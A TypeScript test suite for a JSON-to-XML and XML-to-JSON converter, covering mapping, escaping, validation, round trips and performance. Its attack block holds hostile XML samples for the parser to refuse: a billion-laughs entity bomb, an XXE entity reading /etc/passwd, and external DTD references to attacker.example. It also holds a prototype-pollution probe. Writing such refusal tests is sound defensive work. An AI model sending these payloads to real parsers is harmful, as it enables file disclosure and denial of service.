// json_to_xml feeds legacy upstreams and xml_to_json feeds clients: these pin the mapping both ways, that
// every output is well-formed whatever the keys and text, that round trips give the value back, and that
// malformed XML, DOCTYPE and entity attacks are refused with a position.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { XMLValidator } from 'fast-xml-parser';
import {
  MAX_XML_DEPTH,
  XmlError,
  jsonToXml,
  xmlCodec,
  xmlToJson,
  type XmlOptions,
  type XmlToJsonOptions,
} from './xml-json.js';

const NO_DECLARATION = { declaration: false } as const;

/** `depth` objects `{ a: … }` around `leaf`. */
function nested(depth: number, leaf: unknown = 'x'): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

describe('jsonToXml', () => {
  const cases: readonly (readonly [string, unknown, XmlOptions, string])[] = [
    ['a string', 'hi', {}, '<root>hi</root>'],
    ['a number', -1.5e-7, {}, '<root>-1.5e-7</root>'],
    ['a boolean', true, {}, '<root>true</root>'],
    ['null', null, {}, '<root/>'],
    ['an empty string', '', {}, '<root/>'],
    ['an empty object', {}, {}, '<root/>'],
    ['a single-key object is not unwrapped', { order: 'x' }, {}, '<root><order>x</order></root>'],
    [
      'attributes and children',
      { order: { '@id': '7', item: 'mug' } },
      {},
      '<root><order id="7"><item>mug</item></order></root>',
    ],
    [
      'attributes at the top go on the root element',
      { '@id': 7, item: 'mug' },
      { rootElement: 'order' },
      '<order id="7"><item>mug</item></order>',
    ],
    [
      'text with attributes',
      { price: { '@currency': 'EUR', '#text': 9.5 } },
      {},
      '<root><price currency="EUR">9.5</price></root>',
    ],
    ['text then children, in key order', { '#text': 'a', b: 1 }, {}, '<root>a<b>1</b></root>'],
    ['a keyed array repeats its key', { item: [1, 2] }, {}, '<root><item>1</item><item>2</item></root>'],
    ['a top-level array', [1, 'b'], {}, '<root><item>1</item><item>b</item></root>'],
    ['itemElement names unkeyed items', [1], { itemElement: 'entry' }, '<root><entry>1</entry></root>'],
    [
      'an array inside a keyed array',
      { row: [[1, 2], [3]] },
      {},
      '<root><row><item>1</item><item>2</item></row><row><item>3</item></row></root>',
    ],
    [
      'an array inside a top-level array',
      [[1, 2], null],
      {},
      '<root><item><item>1</item><item>2</item></item><item/></root>',
    ],
    ['an empty array gives no element', { a: [], b: 1 }, {}, '<root><b>1</b></root>'],
    [
      'null, booleans and numbers',
      { a: null, b: false, c: 0, d: 12345678901234567890n },
      {},
      '<root><a/><b>false</b><c>0</c><d>12345678901234567890</d></root>',
    ],
    [
      'attribute values: null left out, booleans and numbers as text',
      { a: { '@x': null, '@y': true, '@z': 0 } },
      {},
      '<root><a y="true" z="0"/></root>',
    ],
    ['undefined members are left out', { a: undefined, b: [undefined, 1] }, {}, '<root><b>1</b></root>'],
    [
      'another prefix and text key',
      { a: { '-id': 1, '#value': 'x', '@lit': 2 } },
      { attributePrefix: '-', textKey: '#value' },
      '<root><a id="1">x<_lit>2</_lit></a></root>',
    ],
    [
      'keepRoot takes the name from the value',
      { order: { '@id': '7' } },
      { keepRoot: true },
      '<order id="7"/>',
    ],
    [
      'names that are not XML names are made into names',
      { 'a b': 1, '1x': 2, '?pi': 3, '': 4, 'a:b:c': 5, '<x>': 6, '@x y': 7 },
      {},
      '<root x_y="7"><a_b>1</a_b><_1x>2</_1x><_pi>3</_pi><_>4</_><a_b_c>5</a_b_c><_x_>6</_x_></root>',
    ],
    [
      'namespace prefixes are kept',
      { '@xmlns:soap': 'urn:s', 'soap:Body': { 'm:Get': 1 } },
      { rootElement: 'soap:Envelope' },
      '<soap:Envelope xmlns:soap="urn:s"><soap:Body><m:Get>1</m:Get></soap:Body></soap:Envelope>',
    ],
    [
      'prototype names from JSON.parse are ordinary elements',
      JSON.parse('{"__proto__": {"a": 1}, "constructor": 2}'),
      {},
      '<root><__proto__><a>1</a></__proto__><constructor>2</constructor></root>',
    ],
  ];
  for (const [name, value, options, expected] of cases) {
    it(name, () => assert.equal(jsonToXml(value, { ...NO_DECLARATION, ...options }), expected));
  }

  it('begins with the XML declaration unless told not to', () => {
    assert.equal(jsonToXml({}), '<?xml version="1.0" encoding="UTF-8"?><root/>');
    assert.equal(
      jsonToXml({}, { declaration: true, rootElement: 'r' }),
      '<?xml version="1.0" encoding="UTF-8"?><r/>',
    );
  });
});

describe('jsonToXml escaping', () => {
  const cases: readonly (readonly [string, string, string])[] = [
    ['markup characters', `<&>"'`, '&lt;&amp;&gt;&quot;&apos;'],
    ['a would-be CDATA end and an entity', ']]> &amp;', ']]&gt; &amp;amp;'],
    ['TAB, LF and CR as references', 'a\tb\nc\rd', 'a&#9;b&#10;c&#13;d'],
    ['Unicode as is', 'héllo 日本 😀 \u0085\u007f', 'héllo 日本 😀 \u0085\u007f'],
    [
      'characters XML cannot carry become U+FFFD',
      'a\u0000b\u0001c\u001fd\uFFFEe\uD800f\uDC00g',
      'a\uFFFDb\uFFFDc\uFFFDd\uFFFDe\uFFFDf\uFFFDg',
    ],
  ];
  for (const [name, text, escaped] of cases) {
    it(`${name} in text`, () =>
      assert.equal(jsonToXml({ t: text }, NO_DECLARATION), `<root><t>${escaped}</t></root>`));
    it(`${name} in an attribute`, () =>
      assert.equal(jsonToXml({ '@a': text }, NO_DECLARATION), `<root a="${escaped}"/>`));
  }

  it('always produces well-formed XML, whatever the keys and text', () => {
    const nasty = [
      'a b',
      '<',
      '>',
      '&',
      '"',
      "'",
      '?xml',
      '!--',
      '![CDATA[',
      ':',
      '1',
      '',
      '\u0000',
      '\uD800',
      'x=1',
    ];
    const value: Record<string, unknown> = {};
    for (const [i, key] of nasty.entries()) {
      value[key + String(i)] = { [`@${key}${i}`]: `${key}</x>${key}`, '#text': key, [key]: [key, null] };
    }
    const xml = jsonToXml(value);
    assert.equal(XMLValidator.validate(xml), true, xml);
    assert.doesNotThrow(() => xmlToJson(xml));
  });
});

describe('jsonToXml refusals', () => {
  const cases: readonly (readonly [string, unknown, XmlOptions, RegExp])[] = [
    ['an object as an attribute value', { a: { '@x': {} } }, {}, /attribute "@x" must be a string/],
    ['an array as an attribute value', { '@x': [1] }, {}, /attribute "@x" must be a string/],
    ['an object as text', { '#text': { a: 1 } }, {}, /"#text" must be a string/],
    ['a function', { a: () => 1 }, {}, /must be a string, number, boolean or null/],
    ['a symbol', Symbol('s'), {}, /must be a string, number, boolean or null/],
    [
      'attributes meeting on one name',
      { '@a b': 1, '@a_b': 2 },
      {},
      /same XML name as another attribute of <root>/,
    ],
    ['keepRoot with two keys', { a: 1, b: 2 }, { keepRoot: true }, /exactly one element key/],
    ['keepRoot with an attribute only', { '@a': 1 }, { keepRoot: true }, /exactly one element key/],
    ['keepRoot with a primitive', 'x', { keepRoot: true }, /exactly one element key/],
    ['keepRoot with an array root', { a: [1, 2] }, { keepRoot: true }, /cannot be an array/],
    ['nesting deeper than the limit', nested(MAX_XML_DEPTH), {}, /deeper than 100 elements/],
  ];
  for (const [name, value, options, message] of cases) {
    it(name, () => assert.throws(() => jsonToXml(value, options), { name: 'XmlError', message }));
  }

  it('accepts nesting right at the limit', () => {
    // The root plus MAX_XML_DEPTH - 1 nested objects is MAX_XML_DEPTH elements.
    const xml = jsonToXml(nested(MAX_XML_DEPTH - 1), NO_DECLARATION);
    assert.equal(xml.split('<a>').length - 1, MAX_XML_DEPTH - 1);
    assert.deepEqual(xmlToJson(xml), nested(MAX_XML_DEPTH - 1));
  });
});

describe('option validation', () => {
  const cases: readonly (readonly [string, XmlToJsonOptions, RegExp])[] = [
    ['a rootElement that is not a name', { rootElement: '1x' }, /rootElement "1x"/],
    ['an itemElement that is not a name', { itemElement: 'a b' }, /itemElement "a b"/],
    ['an empty attributePrefix', { attributePrefix: '' }, /attributePrefix ""/],
    ['an attributePrefix that begins a name', { attributePrefix: '_' }, /attributePrefix "_"/],
    ['an empty textKey', { textKey: '' }, /textKey ""/],
    ['a textKey that is an element name', { textKey: 'text' }, /textKey "text"/],
    ['a textKey that is a prototype name', { textKey: '__proto__' }, /textKey "__proto__"/],
    ['a textKey starting with the prefix', { textKey: '@text' }, /textKey "@text"/],
  ];
  for (const [name, options, message] of cases) {
    it(`refuses ${name}, in every entry point`, () => {
      assert.throws(() => xmlCodec(options), { name: 'RangeError', message });
      assert.throws(() => jsonToXml({}, options), { name: 'RangeError', message });
      assert.throws(() => xmlToJson('<r/>', options), { name: 'RangeError', message });
    });
  }
});

describe('xmlToJson', () => {
  const cases: readonly (readonly [string, string, XmlToJsonOptions, unknown])[] = [
    ['text', '<r>hi</r>', {}, 'hi'],
    ['an empty element', '<r/>', {}, ''],
    ['attributes and children', '<order id="7"><item>mug</item></order>', {}, { '@id': '7', item: 'mug' }],
    ['keepRoot keeps the name', '<order id="7"/>', { keepRoot: true }, { order: { '@id': '7' } }],
    [
      'text with attributes',
      '<r><price currency="EUR">9.50</price></r>',
      {},
      { price: { '@currency': 'EUR', '#text': '9.50' } },
    ],
    ['repeated elements', '<r><item>1</item><item>2</item></r>', {}, { item: ['1', '2'] }],
    [
      'alwaysArray, never for the document element',
      '<r><item>1</item><other>2</other></r>',
      { alwaysArray: ['item', 'r'], keepRoot: true },
      { r: { item: ['1'], other: '2' } },
    ],
    [
      'indentation dropped, leaf text kept exactly',
      '<r>\n  <a> x </a>\n  <b id="1">\n  </b>\n</r>',
      {},
      { a: ' x ', b: { '@id': '1', '#text': '\n  ' } },
    ],
    ['mixed content: text trimmed and joined', '<r> a <b/> c </r>', {}, { b: '', '#text': 'a  c' }],
    [
      'declaration, comments, PIs dropped; CDATA is text',
      '<?xml version="1.0"?><!-- c --><r><?pi x?><a><![CDATA[<b>&amp;]]></a><!-- d --></r>',
      {},
      { a: '<b>&amp;' },
    ],
    [
      'namespaces as written',
      '<s:Envelope xmlns:s="urn:x"><s:Body>1</s:Body></s:Envelope>',
      {},
      { '@xmlns:s': 'urn:x', 's:Body': '1' },
    ],
    [
      'entities and character references',
      '<r a="&lt;&#233;&#x1F600;">&amp;lt;&quot;&apos;&gt;</r>',
      {},
      { '@a': '<é😀', '#text': `&lt;"'>` },
    ],
    [
      'values stay strings by default',
      '<r n="5"><a>1</a><b>true</b></r>',
      {},
      { '@n': '5', a: '1', b: 'true' },
    ],
    [
      'parseValues: numbers and booleans, identifiers kept',
      '<r n="5"><a>1</a><b>true</b><c>007</c><d>0x1F</d><e>-1.5</e><f>12345678901234567890</f><g> 2 </g></r>',
      { parseValues: true },
      { '@n': 5, a: 1, b: true, c: '007', d: '0x1F', e: -1.5, f: '12345678901234567890', g: ' 2 ' },
    ],
    [
      'another prefix and text key',
      '<r id="1">x</r>',
      { attributePrefix: '-', textKey: '#value' },
      { '-id': '1', '#value': 'x' },
    ],
    ['a byte order mark', '\uFEFF<r>1</r>', {}, '1'],
    [
      'Object.prototype member names are prefixed by the parser',
      '<r><toString>1</toString></r>',
      {},
      { __toString: '1' },
    ],
  ];
  for (const [name, text, options, expected] of cases) {
    it(name, () => assert.deepEqual(xmlToJson(text, options), expected));
  }

  it('never gives a child a prototype-changing key', () => {
    const value = xmlToJson('<r><a __proto__="1"/><polluted>1</polluted></r>');
    assert.equal(Object.getPrototypeOf(value), Object.prototype);
    assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
  });
});

describe('xmlToJson refusals', () => {
  const positioned: readonly (readonly [string, string, number, number | undefined])[] = [
    ['a mismatched closing tag', '<r><a></r>', 1, 7],
    ['a mismatched tag on a later line', '<r>\n  <a>\n</r>', 3, 1],
    ['no element at all', '', 1, undefined],
    ['text instead of an element', 'hello', 1, 1],
    ['text after the document element', '<r>1</r>junk', 1, 9],
    ['an unquoted attribute', '<r a=1/>', 1, 4],
    ['a repeated attribute', '<r a="1" a="2"/>', 1, 10],
    ['a bare ampersand in text', '<r>a & b</r>', 1, 6],
    ['an unclosed element', '<?xml version="1.0"?>\n<r><a>1</a>', 2, 1],
    ['unclosed elements (the parser reports no position of its own)', '<r><a>', 1, 1],
  ];
  for (const [name, text, line, column] of positioned) {
    it(`${name}, with its position`, () => {
      assert.throws(
        () => xmlToJson(text),
        (error: unknown) =>
          error instanceof XmlError && error.line === line && error.column === column && error.message !== '',
      );
    });
  }

  const unpositioned: readonly (readonly [string, string, RegExp])[] = [
    ['an undefined entity', '<r>&foo;</r>', /"&foo;" is not defined/],
    ['an HTML entity', '<r>&nbsp;</r>', /"&nbsp;" is not defined/],
    ['a reference to a forbidden character', '<r a="&#0;"/>', /not a reference to an XML character/],
    ['a bare ampersand in an attribute', '<r a="a & b"/>', /ending in ";"/],
    ['two document elements', '<r/><s/>', /exactly one document element/],
    ['two document elements of one name', '<r/><r/>', /exactly one document element/],
    ['an element named constructor', '<r><constructor/></r>', /constructor/],
    [
      'nesting deeper than the limit',
      '<a>'.repeat(MAX_XML_DEPTH + 1) + '</a>'.repeat(MAX_XML_DEPTH + 1),
      /nested/,
    ],
  ];
  for (const [name, text, message] of unpositioned) {
    it(name, () => assert.throws(() => xmlToJson(text), { name: 'XmlError', message }));
  }

  it('accepts nesting right at the limit', () => {
    const text = '<a>'.repeat(MAX_XML_DEPTH) + '</a>'.repeat(MAX_XML_DEPTH);
    assert.deepEqual(xmlToJson(text), nested(MAX_XML_DEPTH - 1, ''));
  });
});

describe('DOCTYPE and entity attacks', () => {
  const attacks: readonly (readonly [string, string, number, number])[] = [
    [
      'billion laughs',
      '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n]>\n<lolz>&lol3;</lolz>',
      2,
      1,
    ],
    [
      'external entity (XXE file read)',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
      1,
      22,
    ],
    [
      'external parameter entity',
      '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><r/>',
      1,
      1,
    ],
    ['an external DTD', '<!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r/>', 1, 1],
    ['a DOCTYPE without declarations', '<!DOCTYPE r><r/>', 1, 1],
    ['a DOCTYPE inside a comment (refused rather than parsed around)', '<r><!-- <!DOCTYPE r> --></r>', 1, 9],
  ];
  for (const [name, text, line, column] of attacks) {
    it(`refuses ${name}`, () => {
      assert.throws(
        () => xmlToJson(text),
        (error: unknown) =>
          error instanceof XmlError &&
          /DOCTYPE declarations are not accepted/.test(error.message) &&
          error.line === line &&
          error.column === column,
      );
    });
  }

  const undeclared: readonly (readonly [string, string, RegExp])[] = [
    ['a reference to an undeclared entity', '<r>&lol3;</r>', /"&lol3;" is not defined/],
    ['an undeclared entity in an attribute', '<r a="&xxe;"/>', /"&xxe;" is not defined/],
    ['a lowercase doctype', '<!doctype r [<!ENTITY a "x">]><r>&a;</r>', /not expected/],
    ['an entity declaration before the root', '<!ENTITY a "x"><r>&a;</r>', /not expected/],
    // fast-xml-parser's validator lets a stray declaration inside an element through; it declares nothing.
    ['an entity declaration inside the root', '<r><!ENTITY a "x">&a;</r>', /"&a;" is not defined/],
  ];
  for (const [name, text, message] of undeclared) {
    it(`refuses ${name}`, () => assert.throws(() => xmlToJson(text), { name: 'XmlError', message }));
  }
});

describe('round trips', () => {
  const special = `<&>"' \t\n\r é 日本 😀 ]]> &amp; &#65;`;
  const values: readonly (readonly [string, unknown, XmlToJsonOptions])[] = [
    [
      'attributes, repeated elements, text with attributes',
      { order: { '@id': '7', item: ['mug', 'pot'], note: { '@lang': 'en', '#text': 'fragile' } } },
      {},
    ],
    [
      'special characters in text and attributes',
      { t: special, '@a': special, u: { '@b': special, '#text': special } },
      {},
    ],
    ['surrounding spaces in text', { t: '  spaced  ', u: '\n' }, {}],
    ['a plain string', 'just text', {}],
    ['keepRoot', { order: { '@id': '7', item: 'mug' } }, { keepRoot: true }],
    ['another prefix and text key', { a: { $id: '1', '#v': 'x' } }, { attributePrefix: '$', textKey: '#v' }],
    [
      'typed values with parseValues',
      { n: 5, f: -2.25, b: true, s: 'x', a: [1, 2], o: { '@k': 3 } },
      { parseValues: true },
    ],
    [
      'a namespaced document',
      { 'soap:Envelope': { '@xmlns:soap': 'urn:s', 'soap:Body': 'x' } },
      { keepRoot: true },
    ],
  ];
  for (const [name, value, options] of values) {
    it(`json → xml → json: ${name}`, () => {
      const codec = xmlCodec(options);
      assert.deepEqual(codec.xmlToJson(codec.jsonToXml(value)), value);
    });
  }

  const documents: readonly (readonly [string, string, XmlToJsonOptions])[] = [
    [
      'an order',
      '<order id="7"><item>mug</item><item>pot</item><note lang="en">fragile</note></order>',
      { keepRoot: true },
    ],
    [
      'escapes',
      '<r a="&lt;&amp;&gt;&quot;&apos;&#9;&#10;&#13;">&lt;&amp;&gt;&quot;&apos;&#13;</r>',
      { keepRoot: true },
    ],
    ['a named root without keepRoot', '<order id="7"><item>mug</item></order>', { rootElement: 'order' }],
  ];
  for (const [name, text, options] of documents) {
    it(`xml → json → xml: ${name}`, () => {
      const codec = xmlCodec({ ...options, declaration: false });
      assert.equal(codec.jsonToXml(codec.xmlToJson(text)), text);
    });
  }
});

describe('large bodies', () => {
  // CPU time, not wall time: on a busy machine the wall clock also counts the time other processes had the
  // CPU (with stress-ng --cpu 2 beside the suite on a 2-core machine, wall time grows several times over).
  const cpuMsSince = (start: NodeJS.CpuUsage): number => {
    const { user, system } = process.cpuUsage(start);
    return (user + system) / 1000;
  };

  it('converts 10,000 elements each way in bounded time', () => {
    const items = Array.from({ length: 10_000 }, (_, i) => ({
      '@id': String(i),
      name: `n<${i}>`,
      tags: ['a', 'b'],
    }));
    const started = process.cpuUsage();
    const xml = jsonToXml({ item: items });
    const back = xmlToJson(xml);
    const elapsed = cpuMsSince(started);
    assert.deepEqual(back, { item: items });
    // About 0.4 s on an idle 2-CPU machine (40,000 elements); a quadratic step would take minutes.
    assert.ok(elapsed < 5_000, `took ${Math.round(elapsed)} ms`);
  });

  it('converts 1 MB of text and 1 MB of attribute value, escapes throughout, in bounded time', () => {
    const text = 'Lorem ipsum dolor sit amet, "consectetur" & <adipiscing> elit.\n'.repeat(16_000);
    const started = process.cpuUsage();
    assert.deepEqual(xmlToJson(jsonToXml({ t: text, '@a': text })), { t: text, '@a': text });
    const elapsed = cpuMsSince(started);
    assert.ok(elapsed < 5_000, `took ${Math.round(elapsed)} ms`);
  });
});
